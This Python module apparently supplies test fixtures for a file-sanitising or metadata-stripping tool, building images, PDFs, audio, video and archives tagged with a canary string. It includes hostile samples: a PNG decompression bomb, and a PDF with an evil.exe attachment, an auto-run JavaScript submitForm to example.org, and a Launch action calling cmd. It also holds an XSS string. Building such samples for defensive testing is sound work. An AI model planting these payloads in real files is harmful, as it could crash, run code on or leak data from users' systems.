"""Files of every kind, made here: what they should say, and what nobody should be told."""

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.annotations import FreeText
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

CANARY = "CANARY-Ada-Lovelace-51.4778N"
HIDDEN = CANARY.encode()
SCRIPT = b"<script>alert(1)</script>"


def points(size=(64, 48), mode="RGB"):
    """A picture whose four corners differ, so that one sees which way up it is."""
    picture = Image.new(mode, size)
    width, height = size
    for number, corner in enumerate([(0, 0), (width - 8, 0), (0, height - 8), (width - 8, height - 8)]):
        shade = 250 - 60 * number
        colour = (shade,) if mode == "L" else (shade, 30 * number, 20, 255)[: len(picture.getbands())]
        picture.paste(colour if len(colour) > 1 else colour[0], (*corner, corner[0] + 8, corner[1] + 8))
    return picture


def picture(kind, *, size=(64, 48), mode="RGB", orientation=1, **options):
    """A picture that tells its maker in every place its kind has for it."""
    exif = Image.Exif()
    exif[0x010E] = exif[0x013B] = exif[0x8298] = CANARY  # description, artist, copyright
    exif[0x0112] = orientation
    exif.get_ifd(0x8825)[0x001D] = CANARY  # the place's date
    options |= {"exif": exif.tobytes(), "xmp": xmp()} if kind not in {"GIF"} else {}
    if kind in {"JPEG", "GIF"}:
        options["comment"] = HIDDEN
    if kind == "PNG":
        texts = PngImagePlugin.PngInfo()
        texts.add_text("Author", CANARY)
        texts.add_itxt("XML:com.adobe.xmp", CANARY)
        texts.add(b"prVt", HIDDEN)
        options["pnginfo"] = texts
        options.pop("xmp")
    out = BytesIO()
    points(size, mode).save(out, format=kind, **options)
    return out.getvalue()


def xmp():
    return b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + HIDDEN + b"</x:xmpmeta>"


def moving(kind):
    out = BytesIO()
    frames = [Image.new("RGB", (64, 48), (number * 80, 0, 0)) for number in range(3)]
    frames[0].save(out, format=kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def bomb(width, height, depth=1):
    """A PNG of so many points in a few kilobytes; nothing is drawn of it."""
    line = bytes(1 + (width * depth + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(line * 100) for _hundred in range(height // 100)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def archive(*names):
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name in names or ("note.txt",):
            packed.writestr(name, CANARY)
    return out.getvalue()


def pdf(*, password="", owner="", hostile=False, photo=None):
    """A page with words on it, by an author who does not want to be known."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 200)
    words = StreamObject()
    words._data = b"BT /F1 12 Tf 20 100 Td (What happened) Tj ET"
    page[NameObject("/Contents")] = writer._add_object(words)
    writer.add_metadata({"/Author": CANARY, "/Title": CANARY})
    described = StreamObject()
    described._data = xmp()
    writer.root_object[NameObject("/Metadata")] = writer._add_object(described)
    page[NameObject("/Metadata")] = writer._add_object(described)
    mark = FreeText(text="Seen", rect=(10, 10, 60, 30))
    mark[NameObject("/T")] = TextStringObject(CANARY)
    writer.add_annotation(0, mark)
    if hostile:
        arm(writer, page)
    if photo:
        show(writer, page, photo)
    if password or owner:
        writer.encrypt(user_password=password, owner_password=owner or password, algorithm="AES-256")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def arm(writer, page):
    """All that a PDF can do by itself: run, start, send and carry."""
    writer.add_attachment("evil.exe", b"MZ" + HIDDEN)
    launch = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject(f"cmd {CANARY}"),
        }
    )
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(f"this.submitForm('https://example.org/{CANARY}')"),
            NameObject("/Next"): launch,
        }
    )
    named = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("run"), script])})
    writer.root_object["/Names"][NameObject("/JavaScript")] = named
    writer.root_object[NameObject("/OpenAction")] = script
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): page.mediabox,
            NameObject("/A"): launch,
        }
    )
    page["/Annots"].append(writer._add_object(link))


def show(writer, page, photo):
    image = StreamObject()
    for key, value in {"/Type": "/XObject", "/Subtype": "/Image", "/Filter": "/DCTDecode"}.items():
        image[NameObject(key)] = NameObject(value)
    image._data = photo
    named = DictionaryObject({NameObject("/Photo"): writer._add_object(image)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): named})


def mp3(frames=40, *, tagged=True, between=b""):
    """Silence at 128 kbit/s, with a tag before and one behind."""
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    sound = frame * (frames // 2) + between + frame * (frames - frames // 2)
    if not tagged:
        return sound
    text = b"TPE1" + struct.pack(">I", len(HIDDEN) + 1) + b"\x00\x00\x00" + HIDDEN
    before = b"ID3\x04\x00\x00" + bytes([0, 0, len(text) >> 7, len(text) & 0x7F]) + text
    return before + sound + b"TAG" + HIDDEN.ljust(125, b"\x00")


def box(kind, *content):
    body = b"".join(content)
    return struct.pack(">I", 8 + len(body)) + kind + body


def track(handler, name=HIDDEN, reference=1):
    dated = bytes(4) + b"\xe5\xe5\xe5\xe5" * 2 + bytes(72)
    elsewhere = box(b"dref", bytes(4), struct.pack(">I", 1), box(b"url ", struct.pack(">I", reference)))
    return box(
        b"trak",
        box(b"tkhd", dated),
        box(
            b"mdia",
            box(b"mdhd", dated),
            box(b"hdlr", bytes(8), handler, bytes(12), name, b"\x00"),
            box(b"minf", box(b"vmhd", bytes(12)), box(b"dinf", elsewhere), box(b"stbl", b"samples")),
        ),
        box(b"udta", HIDDEN),
    )


def film(brand=b"mp42", *tracks, after=b"", reference=1):
    """A film as a phone makes it: with its place, its times and its make, each in more than one box."""
    tracks = tracks or (track(b"vide", reference=reference), track(b"soun"), track(b"meta"))
    moov = box(
        b"moov",
        box(b"mvhd", bytes(4) + b"\xe5\xe5\xe5\xe5" * 2 + bytes(88)),
        *tracks,
        box(b"udta", box(b"\xa9xyz", HIDDEN)),
        box(b"meta", box(b"keys", b"com.apple.quicktime.location.ISO6709"), box(b"ilst", HIDDEN)),
    )
    head = box(b"ftyp", brand, bytes(4), brand) + box(b"uuid", b"\xbe\x7a" * 8, HIDDEN) + box(b"free", HIDDEN)
    return head + moov + box(b"mdat", b"what was filmed" * 40) + after
